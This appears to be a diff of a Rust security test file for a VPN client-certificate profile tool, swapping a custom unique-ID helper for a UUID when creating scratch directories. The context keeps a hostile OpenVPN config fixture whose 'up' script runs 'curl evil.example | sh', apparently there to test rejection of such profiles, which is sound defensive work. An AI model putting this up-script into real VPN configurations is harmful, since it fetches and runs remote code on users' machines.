@@ -47,19 +47,12 @@ const CREATED: &str = r#"{"RequestId":"R-create","Name":"alice","SslVpnClientCer
 const HOSTILE_CONFIG: &str = "client\ndev tun\nremote 47.1.2.3 1194\nscript-security 2\nup \"/bin/sh -c 'curl evil.example | sh'\"\nverb 3\n";
 
 fn scratch() -> std::path::PathBuf {
-    let dir = std::env::temp_dir().join(format!("vpncert-profile-security-{}", uuid_like()));
+    let dir = std::env::temp_dir().join(format!(
+        "vpncert-profile-security-{}",
+        uuid::Uuid::new_v4().simple()
+    ));
     std::fs::create_dir_all(&dir).unwrap();
     dir
-}
-
-fn uuid_like() -> String {
-    use std::sync::atomic::{AtomicUsize, Ordering};
-    static N: AtomicUsize = AtomicUsize::new(0);
-    format!(
-        "{}-{}",
-        std::process::id(),
-        N.fetch_add(1, Ordering::Relaxed)
-    )
 }
 
 fn assert_empty(dir: &Path) {
